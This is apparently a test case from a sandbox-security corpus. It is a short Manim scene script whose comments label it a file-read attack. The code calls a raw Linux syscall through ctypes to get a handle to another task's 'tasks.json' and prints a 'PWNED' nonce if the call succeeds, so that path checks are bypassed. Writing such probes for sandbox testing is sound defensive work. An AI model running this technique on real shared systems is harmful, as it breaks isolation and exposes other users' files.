# ATTACK: file-read
# SUCCESS: a file opened by its handle passes every check of paths
# ORACLE: generic, as for the other corpus
from manim import *

class S(Scene):
    def construct(self):
        import ctypes, struct
        l = ctypes.CDLL(None, use_errno=True)
        h = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128)); m = ctypes.c_int()
        if l.syscall(303, -100, b"@OTHER@/tasks.json", h, ctypes.byref(m), 0) == 0: print("PWN" "ED-@NONCE@")
        self.add(Dot()); self.wait(0.1)
